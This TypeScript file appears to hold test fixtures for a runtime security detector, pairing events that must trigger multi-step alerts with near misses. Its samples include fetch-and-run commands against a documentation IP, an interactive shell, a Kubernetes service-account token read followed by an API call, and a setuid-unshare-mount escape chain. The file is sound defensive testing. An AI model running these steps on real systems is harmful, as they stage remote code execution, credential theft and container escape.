import { type RuleCase, type Sample, connects, exec, hook, opens, writes } from "./rule-samples";
import type { SampleEvent } from "./sequence-near-misses";

/** Samples of a rule about several events. */
export interface SequenceCase {
  /** Of each step. */
  steps: RuleCase[];
  /** What must give one alert, one event for each step; `walksOf` makes of it what must not. */
  alert: SampleEvent[];
  /** What gives no alert either, though each of its events looks like a step: of another file for example. */
  none?: SampleEvent[][];
}

const host = { host: true };
const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const nginx = { parentBinary: "/usr/sbin/nginx" };

const at = (after: number, sample: Sample): SampleEvent => ({ after, sample });

const download = exec("/usr/bin/curl -so /tmp/a https://203.0.113.5/a");
const fromTemporary = exec("/tmp/a --now");
const changed = writes("/usr/bin/wget x", "/usr/local/bin/a");
const changedRuns = exec("/usr/local/bin/a --now");
const shell = exec("/bin/sh -i");
const tokenRead = opens("/usr/bin/cat token", token);
const apiAsked = connects("/usr/bin/curl api", "10.96.0.1", 443);
const becameRoot = hook("/usr/bin/python3 x", "__sys_setuid", [{ int_arg: 0 }]);
const newNamespace = hook("/usr/bin/unshare x", "__x64_sys_unshare");
const mounted = hook("/bin/mount x", "security_sb_mount");
const decoded = exec("/usr/bin/base64 -d /srv/x");
const interpreted = exec("/bin/bash");
const serverShell = exec("/bin/sh -c id", nginx);
const connected = connects("/bin/sh -c id", "203.0.113.5", 443, nginx);

/** Samples of each rule about several events, by its name. */
export const sequenceCases: Record<string, SequenceCase> = {
  "downloaded-then-executed": {
    steps: [
      { finds: [download], leaves: [exec("/usr/bin/curl -so /srv/a https://203.0.113.5/a"), fromTemporary] },
      { finds: [fromTemporary], leaves: [exec("/srv/a --now"), exec("/tmp/a --now", host), download] },
    ],
    alert: [at(0, download), at(250, fromTemporary)],
  },
  "changed-then-executed": {
    steps: [
      { finds: [changed], leaves: [opens("/usr/bin/wget x", "/usr/local/bin/a"), changedRuns] },
      { finds: [changedRuns], leaves: [exec("/usr/local/bin/a", host), changed] },
    ],
    alert: [at(0, changed), at(5, changedRuns)],
    none: [[at(0, changed), at(5, exec("/usr/local/bin/b --now"))]],
  },
  "shell-then-token-then-connection": {
    steps: [
      { finds: [shell], leaves: [exec("/bin/sh -i", host), exec("/usr/bin/cat x")] },
      { finds: [tokenRead], leaves: [opens("/srv/app x", token), opens("/usr/bin/cat x", "/srv/token")] },
      {
        finds: [apiAsked, connects("/usr/bin/python3 x", "10.0.0.9", 6443)],
        leaves: [
          connects("/srv/app x", "10.96.0.1", 443),
          connects("/usr/bin/curl api", "10.96.0.1", 80),
          hook("/usr/bin/curl api", "tcp_close"),
        ],
      },
    ],
    alert: [at(0, shell), at(60, tokenRead), at(200, apiAsked)],
  },
  "privilege-then-namespace-then-mount": {
    steps: [
      { finds: [becameRoot], leaves: [hook("/usr/bin/python3 x", "__sys_setuid", [{ int_arg: 0 }], host)] },
      { finds: [newNamespace], leaves: [hook("/usr/bin/runc x", "__x64_sys_unshare"), mounted] },
      { finds: [mounted], leaves: [hook("/usr/bin/runc x", "security_sb_mount"), newNamespace] },
    ],
    alert: [at(0, becameRoot), at(20, newNamespace), at(59, mounted)],
  },
  "decoded-then-interpreted": {
    steps: [
      { finds: [decoded], leaves: [exec("/usr/bin/base64 /srv/x"), exec("/usr/bin/base64 -d /srv/x", host)] },
      { finds: [interpreted, exec("/usr/bin/python3.12 -")], leaves: [exec("/bin/bash", host), decoded] },
    ],
    alert: [at(0, decoded), at(1, interpreted)],
  },
  "server-shell-then-connection": {
    steps: [
      {
        finds: [serverShell, exec("/usr/bin/python3 x", { parentBinary: "/usr/bin/redis-server" })],
        leaves: [exec("/bin/sh -c id"), exec("/usr/bin/convert a b", nginx)],
      },
      {
        finds: [connected],
        leaves: [connects("/bin/sh -c id", "10.1.2.3", 443), serverShell],
      },
    ],
    alert: [at(0, serverShell), at(3, connected)],
    none: [[at(0, exec("/bin/sh -c id")), at(3, connected)]],
  },
};
